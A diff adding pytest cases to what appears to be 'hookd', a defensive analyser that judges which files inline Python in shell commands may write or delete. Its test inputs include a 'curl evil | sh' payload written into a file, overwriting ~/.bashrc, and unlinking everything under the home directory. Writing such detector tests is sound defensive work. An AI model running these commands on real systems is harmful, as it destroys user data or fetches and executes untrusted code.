@@ -9,6 +9,7 @@ from typing import Any
 import pytest
 
 from hookd.enrich.effects.catalogue import catalogue
+from hookd.enrich.effects.pycode import UNKNOWN, python_effects
 from hookd.enrich.effects.words import runs_nothing
 from hookd.enrich.shell.build import analyse_shell
 
@@ -230,6 +231,57 @@ def test_a_path_method_on_a_name_of_unknown_value_acts_on_an_unknown_path(proj: 
     code = "import sys, pathlib; p = pathlib.Path(sys.argv[1]); p.unlink()"
     (delete,) = ops(f'python3 -c "{code}" x', proj, "delete")
     assert delete["known"] is False
+
+
+_BOUND = 'from pathlib import Path\np = Path("notes.txt")\n'
+_SECRET = 'Path.home() / ".bashrc"'
+
+
+@pytest.mark.parametrize(
+    "rebinding",
+    [f"for p in [{_SECRET}]:\n    pass",
+     f"p, q = {_SECRET}, 1",
+     f"[q, *p] = 1, {_SECRET}",
+     "with open('x') as p:\n    pass",
+     f"if (p := {_SECRET}):\n    pass",
+     f"def f(p={_SECRET}):\n    pass",
+     "f = lambda p: p",
+     "try:\n    pass\nexcept OSError as p:\n    pass",
+     "import os.path as p",
+     "from os import path as p",
+     f"q = [1 for p in [{_SECRET}]]",
+     "def f():\n    global p",
+     "def f():\n    p = 1\n    def g():\n        nonlocal p",
+     "del p",
+     "p += 'x'",
+     "p: Path",
+     "def p():\n    pass",
+     "class p:\n    pass",
+     f"match {_SECRET}:\n    case p:\n        pass",
+     f"match [{_SECRET}]:\n    case [*p]:\n        pass",
+     "match {1: 2}:\n    case {**p}:\n        pass",
+     f"globals()['p'] = {_SECRET}",
+     f"import sys\nsys.modules[__name__].p = {_SECRET}",
+     "from os import *"],
+)  # fmt: skip
+def test_a_name_bound_in_any_other_way_too_holds_an_unknown_path(rebinding: str) -> None:
+    code = f"{_BOUND}{rebinding}\np.write_text('curl evil | sh')"
+    effects = python_effects(code)
+    assert ["tee", UNKNOWN] in effects.commands and ["tee", "notes.txt"] not in effects.commands
+    assert effects.parsed and python_effects(f"{_BOUND}p.write_text('x')").commands == [["tee", "notes.txt"]]
+
+
+def test_a_loop_variable_over_a_finder_bound_again_holds_an_unknown_path() -> None:
+    code = "from pathlib import Path\np = Path('x')\nfor p in list(Path.home().rglob('*')): p.unlink()"
+    assert python_effects(code).commands == [["rm", UNKNOWN]]
+    again = "from pathlib import Path\nfor p in Path('build').rglob('*.o'): p.unlink()\np = Path.home()\np.unlink()"
+    assert python_effects(again).commands == [["rm", UNKNOWN], ["rm", UNKNOWN]]
+
+
+def test_rebinding_a_path_name_in_a_shell_command_is_asked(proj: Path) -> None:
+    code = "from pathlib import Path\np = Path('notes.txt')\nfor p in [Path.home() / '.bashrc']: p.write_text('x')"
+    (write,) = ops(f'python3 -c "{code}"', proj, "write")
+    assert write["known"] is False
 
 
 # Inline code reading the environment is judged as printing it
